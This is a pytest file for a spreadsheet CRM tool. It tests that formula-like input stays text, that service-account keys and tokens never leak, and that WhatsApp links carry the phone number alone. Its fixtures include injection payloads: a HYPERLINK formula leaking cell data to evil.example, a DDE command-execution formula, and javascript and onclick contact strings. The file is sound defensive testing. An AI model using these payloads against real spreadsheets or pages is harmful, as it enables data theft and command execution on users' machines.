"""Security: formula injection, credentials that never leak, and links built from numbers only.

* Text that begins with ``=``, ``+``, ``-`` or ``@`` and comes from ``add``,
  ``import`` or ``sync`` (or that the owner typed as text and a refresh copies
  to the Today and Summary tabs) is stored as text, never as a formula, in
  Excel and in Google Sheets.
* Credentials: the whole CLI is run with a real service-account key file
  (a fresh RSA key) against the fake Sheets API; the token endpoint is answered
  here.  No part of the key, nor the access token, nor the signed assertion may
  appear in anything printed, logged, returned as ``--json``, in error
  messages, in the exported .xlsx or in the sheet.  A key readable by others
  gets a warning; a saved sign-in is owner-only (0600).
* WhatsApp links are built from the normalised number alone, whatever else
  the Contact cell holds.
"""

from __future__ import annotations

import datetime as dt
import json
import logging
import os
import re
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import openpyxl
import pytest
import requests

from sheetcrm import tracker
from sheetcrm.backends.excel import ExcelBackend
from sheetcrm.backends.google import GoogleBackend
from sheetcrm.backends.google_auth import login, save_token
from sheetcrm.backends.memory import MemoryBackend
from tests.fake_sheets import FakeSheets
from tests.helpers.cli import run
from tests.helpers.google import google_tracker, oauth_credentials, private_key_pem
from tests.helpers.xlsx import xlsx_cells

NOW = "2026-11-02T10:00"
EMAIL = "sheetcrm-bot@kato-boutique.iam.gserviceaccount.com"
INJECTIONS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click me")', "=1+1",
              "+256772123456", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0"]


# --------------------------------------------------------------------------- formula injection


def _formulas(path: Path) -> list[str]:
    """Every formula in every tab of the workbook, read from the sheet XML."""
    tabs = openpyxl.load_workbook(path).sheetnames
    return [str(c.value) for tab in tabs for c in xlsx_cells(path, tab).values()
            if c.kind == "formula"]


def _texts(path: Path, tab: str) -> list[object]:
    return [c.value for c in xlsx_cells(path, tab).values() if c.kind == "text"]


def test_add_and_import_store_formula_like_text_as_text_in_excel(tmp_path: Path) -> None:
    path = tmp_path / "tracker.xlsx"
    assert run("init", str(path)).exit_code == 0
    for i, text in enumerate(INJECTIONS[:3]):
        result = run("add", str(path), "--name", text, "--notes", INJECTIONS[-1 - i],
                     "--received", f"0{i + 1}/11/2026 09:00", "--now", NOW)
        assert result.exit_code == 0, result.output
    csv_path = tmp_path / "enquiries.csv"
    lines = ["Received,Name,Notes"] + [
        f'02/11/2026 09:{10 + i},"{t.replace(chr(34), chr(34) * 2)}",{t[:1]}note'
        for i, t in enumerate(INJECTIONS)]
    csv_path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert run("import", str(path), str(csv_path), "--now", NOW).exit_code == 0
    # The owner's own text, typed as text in the sheet, copied by refresh to Today/Summary.
    ExcelBackend(path).append([{"Name": INJECTIONS[0], "Source": INJECTIONS[1],
                                "Received": dt.datetime(2026, 11, 2, 9, 30)}])
    assert run("refresh", str(path), "--now", NOW).exit_code == 0

    enquiries = _texts(path, "Enquiries")
    for text in INJECTIONS:
        assert text in enquiries, text
    assert INJECTIONS[0] in _texts(path, "Today")
    assert INJECTIONS[1] in _texts(path, "Summary")
    # The only formulas are sheetcrm's own (Summary totals and the like), none made of text.
    for formula in _formulas(path):
        assert not any(t.lstrip("=+-@") in formula for t in INJECTIONS), formula


def _google() -> tuple[FakeSheets, str, GoogleBackend]:
    return google_tracker(FakeSheets(service_account_email=EMAIL), "Kato Boutique")


def _google_cells(fake: FakeSheets, key: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """(tab, CellData) for every cell of every tab."""
    for sheet in fake.sheet_properties(key)["sheets"]:
        title = sheet["properties"]["title"]
        for block in sheet.get("data", []):
            for row in block.get("rowData", []):
                for cell in row.get("values", []):
                    yield title, cell


def _google_values(fake: FakeSheets, key: str) -> tuple[set[str], list[str]]:
    """Every string stored as text, and every formula, across the spreadsheet."""
    strings: set[str] = set()
    formulas: list[str] = []
    for _tab, cell in _google_cells(fake, key):
        value = cell.get("userEnteredValue", {})
        if "stringValue" in value:
            strings.add(value["stringValue"])
        if "formulaValue" in value:
            formulas.append(value["formulaValue"])
    return strings, formulas


def test_add_import_and_refresh_store_formula_like_text_as_text_in_google(
        tmp_path: Path) -> None:
    fake, key, backend = _google()
    now = dt.datetime(2026, 11, 2, 10)
    for text in INJECTIONS[:3]:
        tracker.add_enquiry(backend, {"name": text, "notes": INJECTIONS[-1],
                                      "received": "02/11/2026 09:00"}, now=now)
    csv_path = tmp_path / "enquiries.csv"
    csv_path.write_text("Received,Name\n" + "".join(
        f'02/11/2026 09:{10 + i},"{t.replace(chr(34), chr(34) * 2)}"\n'
        for i, t in enumerate(INJECTIONS)), encoding="utf-8")
    tracker.import_file(backend, csv_path, now=now)
    # The owner typed these as text on the phone; refresh copies them to Today and Summary.
    fake.set_values(key, "Enquiries", "A30", [["02/11/2026 09:30", INJECTIONS[0], "",
                                               INJECTIONS[1]]], input="RAW")
    tracker.refresh(backend, now=now)
    strings, formulas = _google_values(fake, key)
    for text in INJECTIONS:
        assert text in strings, text
    for formula in formulas:
        assert not any(t.lstrip("=+-@") in formula for t in INJECTIONS), formula


def test_sync_stores_formula_like_text_as_text_in_google(tmp_path: Path) -> None:
    from sheetcrm.sync import export_to_excel, sync_from_excel

    fake, key, backend = _google()
    now = dt.datetime(2026, 11, 2, 10)
    tracker.add_enquiry(backend, {"name": "Alice A.", "received": "02/11/2026 09:00"}, now=now)
    tracker.refresh(backend, now=now)
    xlsx = tmp_path / "offline.xlsx"
    export_to_excel(backend, xlsx, now=now)
    # Offline, a text cell and a real formula typed in Excel, and a new row.
    wb = openpyxl.load_workbook(xlsx)
    ws = wb["Enquiries"]
    cols = {c.value: c.column for c in ws[1]}
    ws.cell(row=2, column=cols["Notes"]).value = INJECTIONS[0]  # openpyxl: a real formula
    ws.cell(row=2, column=cols["Contact"]).value = "@kato_salon"
    ws.cell(row=2, column=cols["Contact"]).data_type = "s"
    wb.save(xlsx)
    ExcelBackend(xlsx).append([{"Name": INJECTIONS[3], "Notes": INJECTIONS[4],
                                "Received": dt.datetime(2026, 11, 2, 9, 45)}])
    sync_from_excel(xlsx, backend, now=now)
    strings, formulas = _google_values(fake, key)
    for text in (INJECTIONS[0], "@kato_salon", INJECTIONS[3], INJECTIONS[4]):
        assert text in strings, text
    assert not [f for f in formulas if "evil.example" in f or f.startswith("@")], formulas


# --------------------------------------------------------------------------- credentials


@pytest.fixture(scope="module")
def pem() -> str:
    return private_key_pem()


KEY_ID = "5ec2e7f00dd1ce0ffee0ddba11c0ffee5ec2e7f0"
ACCESS_TOKEN = "ya29.a0SECRET-access-token-that-must-never-show"


def key_file(folder: Path, pem: str, mode: int = 0o600) -> Path:
    path = folder / "kato-boutique-key.json"
    path.write_text(json.dumps({
        "type": "service_account", "project_id": "kato-boutique", "private_key_id": KEY_ID,
        "private_key": pem, "client_email": EMAIL, "client_id": "109876543210987654321",
        "token_uri": "https://oauth2.googleapis.com/token",
    }), encoding="utf-8")
    path.chmod(mode)
    return path


class Google:
    """The fake Sheets API behind every requests session, plus Google's token endpoint."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.fake = FakeSheets(service_account_email=EMAIL)
        self.assertions: list[str] = []
        sheets = self.fake.session().get_adapter("https://sheets.googleapis.com/")

        def send(adapter: Any, request: requests.PreparedRequest, **kwargs: Any) -> Any:
            if (request.url or "").startswith("https://oauth2.googleapis.com/token"):
                body = request.body.decode() if isinstance(request.body, bytes) else request.body
                self.assertions.append(str(body))
                reply = requests.Response()
                reply.status_code = 200
                reply.headers["Content-Type"] = "application/json"
                reply._content = json.dumps({"access_token": ACCESS_TOKEN, "expires_in": 3600,
                                             "token_type": "Bearer"}).encode()
                reply.request, reply.url = request, request.url or ""
                return reply
            return sheets.send(request, **kwargs)

        monkeypatch.setattr(requests.adapters.HTTPAdapter, "send", send)

    def secrets(self, pem: str) -> list[str]:
        """Pieces that must never be shown: key lines, key id, token, signed assertions."""
        body = [line for line in pem.splitlines() if line and "-----" not in line]
        found = [KEY_ID, ACCESS_TOKEN, *body[1:-1]]
        for assertion in self.assertions:
            found += re.findall(r"assertion=([\w.-]{40,})", assertion)
        return found


def _leaks(text: str, secrets: list[str]) -> list[str]:
    return [s[:12] + "..." for s in secrets if s and s in text]


def test_credentials_never_appear_in_output_logs_json_errors_or_files(
        tmp_path: Path, pem: str, monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    google = Google(monkeypatch)
    fake = google.fake
    key = fake.create_spreadsheet("Kato Boutique")
    hidden = fake.create_spreadsheet("Someone else's sheet", shared=False)
    url, other = fake.url(key), fake.url(hidden)
    creds = str(key_file(tmp_path, pem))
    csv_path = tmp_path / "enquiries.csv"
    csv_path.write_text("Received,Name,Contact\n02/11/2026 09:10,Grace,0772 200001\n",
                        encoding="utf-8")
    xlsx = tmp_path / "offline.xlsx"
    caplog.set_level(logging.DEBUG)
    results = [
        run("init", url, "--credentials", creds),
        run("add", url, "--name", "Sarah N.", "--contact", "0772 123456", "--received",
            "02/11/2026 09:00", "--credentials", creds, "--now", NOW),
        run("import", url, str(csv_path), "--credentials", creds, "--now", NOW),
        run("refresh", url, "--json", "--credentials", creds, "--now", NOW),
        run("report", url, "--json", "--credentials", creds, "--now", NOW),
        run("export", url, str(xlsx), "--credentials", creds, "--now", NOW),
        run("sync", str(xlsx), url, "--json", "--credentials", creds, "--now", NOW),
        run("refresh", other, "--credentials", creds, "--now", NOW),  # not shared: an error
    ]
    assert [r.exit_code for r in results] == [0, 0, 0, 0, 0, 0, 0, 1], [r.output for r in results]
    assert EMAIL in results[-1].stderr  # the address to share with is no secret
    assert google.assertions, "the key was never used to sign in"
    secrets = google.secrets(pem)
    for r in results:
        assert not _leaks(r.stdout + r.stderr, secrets), r.output
    for record in caplog.records:
        assert not _leaks(record.getMessage(), secrets), record.getMessage()
    with zipfile.ZipFile(xlsx) as z:
        for name in z.namelist():
            assert not _leaks(z.read(name).decode("utf-8", "replace"), secrets), name
    for tab_values in (fake.get_values(key, t["properties"]["title"])
                       for t in fake.sheet_properties(key, grid_data=False)["sheets"]):
        assert not _leaks(json.dumps(tab_values), secrets)


@pytest.mark.parametrize("damage", ["not JSON", "a broken key", "no key at all"])
def test_an_unusable_key_file_is_named_and_never_quoted(tmp_path: Path, pem: str,
                                                        monkeypatch: pytest.MonkeyPatch,
                                                        damage: str) -> None:
    google = Google(monkeypatch)
    key = google.fake.create_spreadsheet("Kato Boutique")
    body = [line for line in pem.splitlines() if "-----" not in line]
    path = tmp_path / "key.json"
    info = json.loads(key_file(tmp_path, pem).read_text(encoding="utf-8"))
    if damage == "not JSON":
        text = pem + "\n" + KEY_ID
    elif damage == "a broken key":
        text = json.dumps({**info, "private_key": "\n".join(body[:5])})
    else:
        text = json.dumps({k: v for k, v in info.items() if k != "private_key"})
    path.write_text(text, encoding="utf-8")
    path.chmod(0o600)
    result = run("refresh", google.fake.url(key), "--credentials", str(path))
    assert result.exit_code == 1
    error = result.stderr.strip().splitlines()[-1]
    assert error.startswith("Error: ") and str(path) in error
    assert not _leaks(result.output, google.secrets(pem) + body), result.output


@pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
@pytest.mark.parametrize(("mode", "warned"), [(0o600, False), (0o400, False), (0o640, True),
                                              (0o644, True), (0o604, True)])
def test_a_key_file_others_can_read_gets_a_warning(tmp_path: Path, pem: str, mode: int,
                                                   warned: bool,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    google = Google(monkeypatch)
    key = google.fake.create_spreadsheet("Kato Boutique")
    creds = key_file(tmp_path, pem, mode)
    assert run("init", google.fake.url(key), "--credentials", str(creds)).exit_code == 0
    result = run("refresh", google.fake.url(key), "--credentials", str(creds), "--now", NOW)
    assert result.exit_code == 0, result.output
    warnings = [line for line in result.stderr.splitlines() if line.startswith("Warning:")]
    assert len(warnings) == int(warned), result.stderr
    if warned:
        assert str(creds) in warnings[0] and "chmod 600" in warnings[0]
    assert not _leaks(result.output, google.secrets(pem))


def _sign_in() -> Any:
    return oauth_credentials(token=ACCESS_TOKEN, refresh_token="1//SECRET-refresh-token",
                             client_id="id.apps.googleusercontent.com",
                             client_secret="SECRET-client")


@pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
def test_a_saved_sign_in_is_owner_only_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0)  # the laxest setting a machine can have
    try:
        path = save_token(_sign_in(), tmp_path / "config" / "sheetcrm" / "token.json")
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert stat.S_IMODE(path.parent.stat().st_mode) & 0o077 == 0
        # Signing in again replaces a token someone made readable, and makes it private.
        path.chmod(0o644)
        again = save_token(_sign_in(), path)
        assert stat.S_IMODE(again.stat().st_mode) == 0o600
        assert [p.name for p in path.parent.iterdir()] == ["token.json"]  # no temp files
    finally:
        os.umask(old)


@pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
def test_sheetcrm_auth_saves_the_token_owner_only(tmp_path: Path) -> None:
    secrets = tmp_path / "client_secret.json"
    secrets.write_text(json.dumps({"installed": {
        "client_id": "id.apps.googleusercontent.com", "client_secret": "SECRET-client",
        "auth_uri": "https://accounts.google.com/o/oauth2/auth",
        "token_uri": "https://oauth2.googleapis.com/token",
        "redirect_uris": ["http://localhost"]}}), encoding="utf-8")
    old = os.umask(0o022)
    try:
        path = login(secrets, token=tmp_path / "token.json", run=lambda _flow: _sign_in())
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


# --------------------------------------------------------------------------- WhatsApp links

# Each Contact holds 0772 123456 among other text; the link must be the number alone.
CONTACTS = [
    "0772 123456?text=Send 50000 to 0700 000000",
    "javascript:alert(1) 0772 123456",
    '0772 123456" onclick="steal()',
    "https://evil.example/0772123456",
    "+256 772 123456#@evil.example",
    "Tel: 0772 123456 / 0700 999999",
    "0772 123456\n=HYPERLINK(\"https://evil.example\")",
]
WANT = "https://wa.me/256772123456?text="
# The first-reply message with the row's name: the only text a link may carry.
MESSAGES = {f"Hello Customer {i}, thank you for contacting us. How can we help you today?"
            for i in range(len(CONTACTS))}


def _contact_rows() -> list[dict[str, Any]]:
    return [{"Name": f"Customer {i}", "Contact": c, "Received": dt.datetime(2026, 11, 2, 9, i)}
            for i, c in enumerate(CONTACTS)]


def _check_links(links: list[str], rows: int) -> None:
    # One link per enquiry on Enquiries, and again on Today (all are pending and due).
    assert len(links) >= rows, links
    for link in links:
        assert link.startswith(WANT), link
        assert unquote(link.removeprefix(WANT)) in MESSAGES, link


def test_whatsapp_links_are_built_from_the_number_only_in_memory() -> None:
    backend = MemoryBackend()
    tracker.init_tracker(backend)
    backend.append(_contact_rows())
    tracker.refresh(backend, now=dt.datetime(2026, 11, 2, 10))
    _check_links([link for tab in backend.tabs.values() for link in tab.links.values()],
                 len(CONTACTS))


def test_whatsapp_links_are_built_from_the_number_only_in_excel(tmp_path: Path) -> None:
    path = tmp_path / "tracker.xlsx"
    tracker.init_tracker(ExcelBackend(path))
    ExcelBackend(path).append(_contact_rows())
    tracker.refresh(ExcelBackend(path), now=dt.datetime(2026, 11, 2, 10))
    wb = openpyxl.load_workbook(path)
    links = [c.hyperlink.target for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.hyperlink is not None]
    _check_links(links, len(CONTACTS))


def test_whatsapp_links_are_built_from_the_number_only_in_google() -> None:
    fake, key, backend = _google()
    backend.append(_contact_rows())
    tracker.refresh(backend, now=dt.datetime(2026, 11, 2, 10))
    links = []
    for _tab, cell in _google_cells(fake, key):
        uri = cell.get("userEnteredFormat", {}).get("textFormat", {}).get("link", {}).get("uri")
        uri = uri or cell.get("hyperlink")
        if uri:
            links.append(uri)
    _check_links(links, len(CONTACTS))
